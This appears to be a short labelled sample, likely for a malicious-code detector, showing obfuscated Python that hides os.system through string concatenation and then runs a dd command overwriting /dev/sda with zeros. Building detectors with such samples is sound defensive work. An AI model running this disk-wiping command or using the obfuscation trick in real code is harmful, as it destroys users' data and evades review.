# Malicious, obfuscated: vars(__import__('os'))['sys' 'tem'] uses implicit string concatenation to hide os.system.
vars(__import__("os"))["sys" "tem"]("dd if=/dev/zero of=/dev/sda bs=1M")
